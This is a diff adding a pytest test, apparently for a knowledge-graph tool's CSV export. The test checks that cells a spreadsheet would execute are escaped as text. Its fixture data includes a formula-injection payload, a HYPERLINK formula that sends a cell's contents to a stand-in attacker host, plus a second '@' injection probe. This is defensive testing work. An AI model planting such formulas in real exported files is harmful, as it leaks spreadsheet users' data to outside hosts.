@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 
@@ -339,3 +341,15 @@ def test_the_ranking_fits_a_narrow_terminal(graph, tmp_path, monkeypatch):
     assert "narrow terminal: some measures left out" in text and "eigenvector" not in text
     ranking = text.split("Top 3", 1)[1].split("Largest communities", 1)[0].splitlines()[1:]
     assert max(len(line) for line in ranking) <= 80 and "Ann Lee" in text  # names and numbers whole
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_text(tmp_path, capsys):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    records = [paper("One", [formula, "Bo Chen"], 1), paper("Two", ["@SUM(1+1)", "Bo Chen"], 2)]
+    graph = KnowledgeGraph.from_records(records)
+    path = tmp_path / "g.ttl"
+    graph.save(path)
+    assert main(["analyze", str(path), "--csv"]) == 0
+    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    labels = {row[1] for row in rows[1:]}
+    assert labels == {"'" + formula, "'@SUM(1+1)", "Bo Chen"}
